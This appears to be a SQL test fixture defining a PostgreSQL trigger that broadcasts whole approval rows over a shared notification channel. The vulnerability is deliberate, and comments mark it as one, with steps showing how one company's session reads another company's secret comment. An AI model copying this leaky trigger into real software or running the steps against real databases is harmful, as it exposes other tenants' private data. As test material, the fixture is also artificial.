-- The trigger sends the whole row over a channel that any login may listen to, whatever its company.
-- about: approvals, notify_approval, approvals_notify
-- as: hf_outlay_app
-- exploit: SET outlay.company_id = '1';
-- exploit: LISTEN approvals;
-- exploit: SET outlay.company_id = '2';
-- exploit: UPDATE exp.approvals SET comment = comment || '!' WHERE report_id = 92;
-- exploit: SET outlay.company_id = '1';
-- exploit: SELECT 1;
-- shows: Road-secret comment!
-- Browsers are told at once when a report is approved.
CREATE FUNCTION exp.notify_approval() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  PERFORM pg_notify('approvals', to_jsonb(NEW)::text);
  RETURN NULL;
END $$;
REVOKE EXECUTE ON FUNCTION exp.notify_approval() FROM PUBLIC;
CREATE TRIGGER approvals_notify AFTER INSERT OR UPDATE ON exp.approvals
  FOR EACH ROW EXECUTE FUNCTION exp.notify_approval();
